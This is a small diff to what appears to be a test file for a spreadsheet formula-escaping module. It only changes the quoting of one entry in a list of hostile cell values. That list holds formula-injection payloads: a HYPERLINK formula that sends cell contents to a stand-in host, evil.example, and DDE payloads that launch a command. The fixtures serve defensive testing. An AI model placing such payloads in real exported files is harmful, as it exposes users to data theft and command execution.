@@ -6,7 +6,7 @@ import { escapeFormula, FORMULA_CELL, FORMULA_CELL_PATTERN, FORMULA_START_PATTER
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
   "+cmd|'/C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3',
   '\t=1+1',
   '\r=1+1',
